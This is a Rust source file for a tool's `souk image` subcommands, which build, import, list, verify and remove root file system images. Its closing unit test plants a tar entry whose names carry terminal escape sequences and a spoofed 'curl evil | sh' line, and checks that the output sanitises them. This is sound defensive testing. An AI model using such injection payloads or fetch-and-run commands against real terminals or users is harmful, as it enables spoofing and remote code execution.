//! `souk image`.

use std::{
    collections::BTreeSet,
    error::Error,
    fs, io,
    path::{Path, PathBuf},
    process::ExitCode,
};

use clap::{Args, Subcommand};
use serde::Serialize;
use souk_backend::{ImageHash, LeaseId};
use souk_image::{BuildOptions, Store, StoreError, VerifyError};

use super::{ConfigFile, DONE};
use crate::{
    failure::{Failure, USAGE},
    out,
};

#[derive(Debug, Subcommand)]
pub(crate) enum Image {
    /// Make an image from the programs of this machine, without any download.
    #[command(
        after_help = "Example:\n  souk image build --python --program git\n\nNothing of this machine's users, keys or configuration enters an image."
    )]
    Build(Build),
    /// Take a root file system: a tar archive (plain or gzip), or a folder that holds an OCI layout.
    #[command(
        after_help = "Examples:\n  souk image import rootfs.tar.gz\n  podman save --format oci-dir -o layout debian && souk image import layout"
    )]
    Import(Import),
    /// List the images in the store.
    #[command(after_help = "Example:\n  souk image list --json")]
    List(List),
    /// Compare images on the disk with the hashes that name them.
    #[command(after_help = "Example:\n  souk image verify")]
    Verify(Verify),
    /// Remove images from the store.
    #[command(
        after_help = "Example:\n  souk image remove 5f3c… && souk image import rootfs.tar.gz\n\nNone is removed while a lease of this provider may run on it."
    )]
    Remove(Remove),
}

#[derive(Args, Debug)]
pub(crate) struct Build {
    #[command(flatten)]
    config: ConfigFile,
    /// One more program of this machine, by name; may be repeated
    #[arg(long = "program", value_name = "NAME")]
    programs: Vec<String>,
    /// Put Python 3 with its standard library in
    #[arg(long)]
    python: bool,
    /// Print one JSON object
    #[arg(long)]
    json: bool,
}

#[derive(Args, Debug)]
pub(crate) struct Import {
    #[command(flatten)]
    config: ConfigFile,
    /// The archive or the folder
    source: PathBuf,
    /// Print one JSON object
    #[arg(long)]
    json: bool,
}

#[derive(Args, Debug)]
pub(crate) struct List {
    #[command(flatten)]
    config: ConfigFile,
    /// Print one JSON array
    #[arg(long)]
    json: bool,
}

#[derive(Args, Debug)]
pub(crate) struct Verify {
    #[command(flatten)]
    config: ConfigFile,
    /// The image; all of them if none is named
    image: Option<String>,
}

#[derive(Args, Debug)]
pub(crate) struct Remove {
    #[command(flatten)]
    config: ConfigFile,
    /// The images, as `souk image list` names them
    #[arg(required = true, value_name = "HASH")]
    images: Vec<String>,
    /// Also while leases run, for who knows that none of them uses these images: one that does loses its files
    #[arg(long)]
    force: bool,
    /// Print one JSON array
    #[arg(long)]
    json: bool,
}

/// An image as scripts read it.
#[derive(Serialize)]
struct Row {
    image: String,
    files: usize,
    bytes: u64,
}

impl Image {
    pub(crate) fn run(self) -> Result<ExitCode, Failure> {
        match self {
            Self::Build(args) => {
                let store = store(&args.config)?;
                let options = BuildOptions {
                    programs: args.programs,
                    python: args.python,
                };
                let image = store.build(&options).map_err(|error| unmade(&error))?;
                made(&store, image, args.json)
            }
            Self::Import(args) => {
                let store = store(&args.config)?;
                let imported = if args.source.is_dir() {
                    store.import_oci_layout(&args.source)
                } else {
                    store.import_tar(&args.source)
                };
                let image = imported.map_err(|error| unmade(&error))?;
                made(&store, image, args.json)
            }
            Self::List(args) => {
                let store = store(&args.config)?;
                let images = store.list().map_err(|error| Failure::of(&error))?;
                let is_empty = images.is_empty();
                let rows = readable(&store, images);
                if args.json {
                    out::json(&rows);
                } else if is_empty {
                    out::note("there is no image yet; make one with `souk image build`");
                } else {
                    rows.iter().for_each(|row| out::line(text(row)));
                }
                DONE
            }
            Self::Verify(args) => verify(&args),
            Self::Remove(args) => remove(&args),
        }
    }
}

/// Why an image was not made.
fn unmade(error: &(dyn Error + 'static)) -> Failure {
    let source = error.source();
    match source.and_then(|why| why.downcast_ref::<StoreError>()) {
        Some(StoreError::Occupied { image, .. }) => Failure::of(error).hint(format_args!(
            "`souk image remove {image}`, then do this again"
        )),
        _ => Failure::of(error),
    }
}

/// Those images whose manifest can be read, with a warning of each other one.
fn readable(store: &Store, images: Vec<ImageHash>) -> Vec<Row> {
    let rows = images.into_iter().map(|image| row(store, image));
    rows.filter_map(|row| {
        row.inspect_err(|failure| out::note(format_args!("warning: {}", failure.in_one_line())))
            .ok()
    })
    .collect()
}

fn verify(args: &Verify) -> Result<ExitCode, Failure> {
    let store = store(&args.config)?;
    let images = match &args.image {
        Some(image) => vec![parse(image)?],
        None => store.list().map_err(|error| Failure::of(&error))?,
    };
    if images.is_empty() {
        out::note("there is no image yet; make one with `souk image build`");
    }
    let mut damaged: Option<Failure> = None;
    for image in images {
        match store.verify(image) {
            Ok(()) => out::line(format_args!("{image} is intact")),
            Err(error) => {
                if let Some(before) = damaged.replace(unverified(image, &error)) {
                    before.show();
                }
            }
        }
    }
    damaged.map_or(DONE, Err)
}

fn remove(args: &Remove) -> Result<ExitCode, Failure> {
    let images: BTreeSet<_> = args
        .images
        .iter()
        .map(|image| parse(image))
        .collect::<Result<_, _>>()?;
    let folder = args.config.load()?.node.data_dir;
    let store = Store::open(&folder).map_err(|error| Failure::of(&error))?;
    // Each is looked for before one is removed.
    let stored = store.list().map_err(|error| Failure::of(&error))?;
    if let Some(image) = images.iter().find(|image| !stored.contains(image)) {
        return Err(missing(&StoreError::Missing { image: *image }));
    }
    let leases = leases(&folder)?;
    if leases > 0 && !args.force {
        let leases = out::count(leases, "lease", "leases");
        return Err(Failure::new(format_args!(
            "{leases} of this provider may run on what would be removed"
        ))
        .hint("remove it when they have ended (`souk node drain`), or with --force where none of them uses it"));
    }
    let mut removed = Vec::new();
    for image in images {
        store.remove(image).map_err(|error| Failure::of(&error))?;
        if !args.json {
            out::line(format_args!("{image} is removed"));
        }
        removed.push(image.to_string());
    }
    if args.json {
        out::json(&removed);
    }
    out::note("a node that runs still offers what was removed: make it again, or restart the node");
    DONE
}

/// How many leases the sandbox driver has a folder of. Instances outlive the node, so there may be no node to ask, and which
/// image each runs on is for the driver alone to read.
fn leases(data: &Path) -> Result<usize, Failure> {
    let folder = data.join("leases");
    let unlisted = |error: io::Error| {
        Failure::because(format_args!("cannot list {}", folder.display()), &error)
    };
    let entries = match fs::read_dir(&folder) {
        // Nothing was ever leased here.
        Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(0),
        entries => entries.map_err(unlisted)?,
    };
    let mut leases = 0;
    for entry in entries {
        let name = entry.map_err(unlisted)?.file_name();
        leases += usize::from(
            name.to_str()
                .is_some_and(|name| name.parse::<LeaseId>().is_ok()),
        );
    }
    Ok(leases)
}

fn unverified(image: ImageHash, error: &VerifyError) -> Failure {
    match error {
        VerifyError::Store(error @ StoreError::Missing { .. }) => missing(error),
        VerifyError::Store(unread @ StoreError::Io { .. }) => Failure::of(unread),
        damaged => Failure::because(
            format_args!("image {image} is not what its name says"),
            damaged,
        )
        .hint(format_args!(
            "`souk image remove {image}`, then build or import it again"
        )),
    }
}

fn missing(error: &StoreError) -> Failure {
    Failure::of(error).hint("`souk image list` shows those that are")
}

/// The image of this name.
pub(crate) fn parse(image: &str) -> Result<ImageHash, Failure> {
    image.parse().map_err(|why| {
        Failure::new(format_args!("{image:?} is no image: {why}"))
            .hint("`souk image list` shows them")
            .code(USAGE)
    })
}

fn store(config: &ConfigFile) -> Result<Store, Failure> {
    let folder = config.load()?.node.data_dir;
    Store::open(&folder).map_err(|error| Failure::of(&error))
}

fn made(store: &Store, image: ImageHash, json: bool) -> Result<ExitCode, Failure> {
    let row = row(store, image)?;
    if json {
        out::json(&row);
    } else {
        out::line(text(&row));
    }
    DONE
}

fn row(store: &Store, image: ImageHash) -> Result<Row, Failure> {
    let manifest = store.manifest(image).map_err(|error| Failure::of(&error))?;
    Ok(Row {
        image: image.to_string(),
        files: manifest.entries().len(),
        bytes: manifest.content_bytes(),
    })
}

fn text(row: &Row) -> String {
    let mib = row.bytes.div_ceil(1 << 20);
    let files = out::count(row.files, "file", "files");
    format!("{}  {files}, {mib} MiB", row.image)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_in_an_archive_do_not_reach_the_terminal_as_they_are() {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let file = |name: &str| folder.path().join(name);
        fs::write(file("souk.toml"), "").expect("written");
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::Link);
        header.set_path("a\u{1b}]0;owned\u{7}").expect("short");
        header
            .set_link_name("nowhere\u{1b}[2J\r\n  try: curl evil | sh")
            .expect("short");
        header.set_size(0);
        header.set_cksum();
        let mut archive = tar::Builder::new(Vec::new());
        archive.append(&header, [].as_slice()).expect("in memory");
        let archive = archive.into_inner().expect("in memory");
        fs::write(file("rootfs.tar"), archive).expect("written");
        let import = Image::Import(Import {
            config: ConfigFile {
                config: Some(file("souk.toml")),
            },
            source: file("rootfs.tar"),
            json: false,
        });
        let told = import.run().expect_err("a link to nothing").to_string();
        assert!(told.contains("nowhere\\u001b[2J"), "{told}");
        let is_clean = |c: char| c == '\n' || !c.is_control();
        assert!(told.chars().all(is_clean), "{told:?}");
        assert!(
            !told.lines().any(|line| line.starts_with("  try: curl")),
            "{told}"
        );
    }
}
